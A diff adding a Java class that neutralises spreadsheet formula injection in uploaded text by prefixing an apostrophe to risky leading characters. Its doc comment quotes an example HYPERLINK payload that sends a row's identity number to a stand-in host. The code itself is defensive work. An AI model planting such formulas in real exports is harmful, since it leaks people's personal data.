@@ -1,0 +1,26 @@
+package cn.chengxin.ingestion.parsing;
+
+/**
+ * Keeps text that came from an upload from becoming a formula when a clerk opens a report in Excel or WPS
+ * ("CSV injection": {@code =HYPERLINK("http://evil/?"&A1,"点击")} sends the row's identity number away).
+ * Following the OWASP guidance, a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
+ * carriage return gets a leading apostrophe, which spreadsheets show as text. The full-width forms
+ * ({@code ＝ ＋ － ＠}) are treated the same, since input methods produce them and some spreadsheet programs
+ * accept them as formula starts. Negative numbers also get the apostrophe: a report is read, not computed.
+ */
+public final class FormulaNeutraliser {
+
+    private FormulaNeutraliser() {
+    }
+
+    /** {@code text} safe to put in a spreadsheet cell; {@code null} becomes {@code ""}. */
+    public static String neutralise(String text) {
+        if (text == null || text.isEmpty()) {
+            return "";
+        }
+        return switch (text.charAt(0)) {
+            case '=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠' -> "'" + text;
+            default -> text;
+        };
+    }
+}
